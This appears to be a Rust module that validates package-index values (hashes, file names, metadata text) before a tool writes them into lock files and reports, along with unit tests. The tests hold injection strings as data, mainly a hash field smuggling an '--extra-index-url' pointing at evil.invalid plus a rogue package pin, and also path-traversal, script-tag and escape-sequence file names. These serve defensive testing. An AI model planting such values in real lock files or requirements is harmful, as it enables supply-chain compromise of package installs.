//! Checks on values an index serves, applied where a page is turned into
//! [`DistFile`](super::DistFile)s: a value that can reach a file dockgen writes (a
//! lock, a pylock, an SBOM, a report) is either well-formed or an error; it is never
//! written as served. Each check returns a message saying what is wrong with the value;
//! the caller adds the index, project and file.

/// A sha256 as a lock carries it: exactly 64 hex digits, lower-cased.
pub fn sha256(value: &str) -> Result<String, String> {
    if is_sha256(value) {
        Ok(value.to_ascii_lowercase())
    } else {
        Err(format!("the sha256 {} is not 64 hex digits", quoted(value)))
    }
}

/// Whether `value` is 64 hex digits, without making the lowercase copy [`sha256`] makes
/// (a check of every hash of every cached page, on every read).
pub fn is_sha256(value: &str) -> bool {
    value.len() == 64 && value.bytes().all(|b| b.is_ascii_hexdigit())
}

/// A file name that is a plain name: no path separators, whitespace or control
/// characters (a newline in it would start a new line of the lock).
pub fn plain_filename(value: &str) -> Result<(), String> {
    let bad = value
        .chars()
        .find(|c| matches!(c, '/' | '\\') || c.is_whitespace() || c.is_control());
    match bad {
        None if !value.is_empty() && value != "." && value != ".." => Ok(()),
        None => Err(format!(
            "the file name {} is not a file name",
            quoted(value)
        )),
        Some(c) => Err(format!(
            "the file name {} contains {}; a file name must be plain",
            quoted(value),
            describe(c)
        )),
    }
}

/// A wheel or sdist file name: besides being plain, only the characters names,
/// versions and tags are made of (letters, digits, `.`, `_`, `-`, `+`, `!`), so the
/// name is inert in any output (HTML, TOML, a shell).
pub fn distribution_filename(value: &str) -> Result<(), String> {
    // The common case in one pass over the bytes: only these characters, which no
    // plain-name check refuses, and not `.` or `..`.
    let usual = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-' | b'+' | b'!');
    if value.bytes().all(usual) && !matches!(value, "" | "." | "..") {
        return Ok(());
    }
    plain_filename(value)?;
    match value
        .chars()
        .find(|c| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '+' | '!')))
    {
        None => Ok(()),
        Some(c) => Err(format!(
            "the file name {} contains `{}`, which no wheel or sdist name has",
            quoted(value),
            c.escape_debug()
        )),
    }
}

/// Text with no control characters (newlines, escapes, NUL).
pub fn no_control(what: &str, value: &str) -> Result<(), String> {
    match value.chars().find(|c| c.is_control()) {
        None => Ok(()),
        Some(c) => Err(format!(
            "the {what} {} contains {}",
            quoted(value),
            describe(c)
        )),
    }
}

/// A value as a message shows it: backticked, see [`shown`].
pub fn quoted(value: &str) -> String {
    format!("`{}`", shown(value))
}

/// A value fit for a message: control characters escaped, and cut after 80
/// characters (a hostile index may send megabytes).
pub fn shown(value: &str) -> String {
    const LIMIT: usize = 80;
    let mut shown: String = value
        .chars()
        .take(LIMIT)
        .collect::<String>()
        .escape_debug()
        .to_string();
    if value.chars().count() > LIMIT {
        shown.push_str("...");
    }
    shown
}

fn describe(c: char) -> String {
    match c {
        '\n' => "a newline".to_owned(),
        '\r' => "a carriage return".to_owned(),
        '\t' => "a tab".to_owned(),
        ' ' => "a space".to_owned(),
        '/' | '\\' => format!("a path separator `{c}`"),
        c => format!("the character U+{:04X}", c as u32),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sha256_is_64_hex_digits_lower_cased() {
        let upper = "AB".repeat(32);
        assert_eq!(sha256(&upper), Ok("ab".repeat(32)));
        let injected = format!(
            "{} \\\n--extra-index-url http://evil.invalid/simple\nevilpkg==6.6.6",
            "a".repeat(64)
        );
        let message = sha256(&injected).unwrap_err();
        assert!(!message.contains('\n'), "{message}");
        assert!(message.contains(" \\\\\\n--extra-index..."), "{message}");
        assert!(message.ends_with("` is not 64 hex digits"), "{message}");
        for bad in [
            "",
            "ff",
            &"g".repeat(64),
            &"a".repeat(65),
            &format!("{}\n", "a".repeat(63)),
        ] {
            assert!(sha256(bad).is_err(), "{bad:?}");
        }
    }

    #[test]
    fn filenames_must_be_plain() {
        assert!(plain_filename("demo-1.0-py3-none-any.whl").is_ok());
        assert!(plain_filename("torch-2.5.1+cu124-cp311-cp311-linux_x86_64.whl").is_ok());
        for (bad, says) in [
            ("demo-1.0-py3-none-any\nevil.whl", "a newline"),
            ("../demo-1.0.tar.gz", "a path separator `/`"),
            ("..\\demo-1.0.tar.gz", "a path separator `\\`"),
            ("demo-1.0 .tar.gz", "a space"),
            ("demo-1.0\u{1b}[2J.tar.gz", "U+001B"),
            ("", "is not a file name"),
            ("..", "is not a file name"),
        ] {
            let message = plain_filename(bad).unwrap_err();
            assert!(message.contains(says), "{bad:?}: {message}");
            assert!(
                !message.contains('\n') && !message.contains('\u{1b}'),
                "{message}"
            );
        }
    }

    #[test]
    fn distribution_filenames_use_a_small_alphabet() {
        assert!(distribution_filename("torch-2.5.1+cu124-cp311-cp311-linux_x86_64.whl").is_ok());
        assert!(distribution_filename("demo-1!2.0.tar.gz").is_ok());
        assert_eq!(
            distribution_filename("demo-1.0-py3-none-any<script>.whl").unwrap_err(),
            "the file name `demo-1.0-py3-none-any<script>.whl` contains `<`, which no wheel or sdist name has"
        );
        assert!(distribution_filename("demo-1.0-py3-none-any\nx.whl").is_err());
    }

    #[test]
    fn control_characters() {
        assert!(no_control("requires-python", ">=3.8").is_ok());
        assert_eq!(
            no_control("requires-python", ">=3.8\n--index-url x").unwrap_err(),
            "the requires-python `>=3.8\\n--index-url x` contains a newline"
        );
        // A yank reason is kept as `printable` shows it.
        let printable = crate::input::text::printable;
        assert_eq!(printable("bad\nrelease\u{1b}"), "bad\\nrelease\\u{1b}");
        assert_eq!(printable("plain reason"), "plain reason");
    }

    #[test]
    fn long_values_are_cut() {
        let shown = quoted(&"x".repeat(10_000));
        assert_eq!(shown.len(), 80 + 5);
        assert!(shown.ends_with("...`"));
    }
}
